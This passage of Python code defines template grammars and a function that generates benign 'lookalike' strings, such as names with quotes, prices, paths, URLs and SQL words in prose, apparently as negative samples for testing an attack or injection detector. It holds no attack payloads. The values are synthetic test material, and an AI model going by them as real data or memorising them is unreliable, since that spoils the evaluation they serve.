                "§b_first§ <§b_email§>", "§b_email§, §b_email§", "§b_phone§", "§b_date§", "§b_price§", "§b_price§ – §b_price§",
                "v§n§.§n§.§nn§ (beta)", "Size: §n§/§nn§", "§N§ pcs @ §b_price§", "Ticket #§N§: can't log in", "§b_city§ → §b_city§",
                "§b_first§'s birthday party 🎉", "Table for §n§ @ §b_date§", "Flight §bW§§N§ delayed ~§nn§ min", "Ref. §bW§/§N§/§nn§"])
_def("benign_one", [(10, "§b_phrase§"), (5, "§b_arith§"), (5, "§b_path§"), (5, "§b_url§"), (5, "§b_url2§"), (3, "§b_ip§"), (6, "§b_review§"), (8, "§b_search§"),
                    (3, "§b_json§"), (10, "§b_misc§"), (4, "§b_product§")])
_def("benign", [(10, "§benign_one§"), (2, "§benign_one§; §benign_one§"), (2, "§benign_one§ - §benign_one§"), (1, "§benign_one§ | §benign_one§"),
                (1, "§benign_one§ / §benign_one§"), (1, "§benign_one§, §benign_one§"), (1, "§benign_one§ & §benign_one§"),
                (1, "§benign_one§ (§benign_one§)"), (1, "§benign_one§\n§benign_one§")])


def benign_lookalikes(n: int, seed: int) -> list[str]:
    """`n` distinct ordinary values that share characters and words with attacks but are not attacks:
    quotes in names and phrases, `<` and `&` in prose, SQL words in sentences, paths, URLs, arithmetic,
    placeholders, prices and dates, reviews and searches in many languages.
    """
    rng = random.Random(seed * 1000 + _BENIGN_STREAM)
    out: list[str] = []
    seen: set[str] = set()
    attempts = 0
    while len(out) < n:
        attempts += 1
        value = _s("benign", rng)
        if _usable(value) and value not in seen:
            seen.add(value)
            out.append(value)
        if attempts > 200 * n + 10000:
            raise RuntimeError(f"could not draw {n} distinct benign values")
    return out
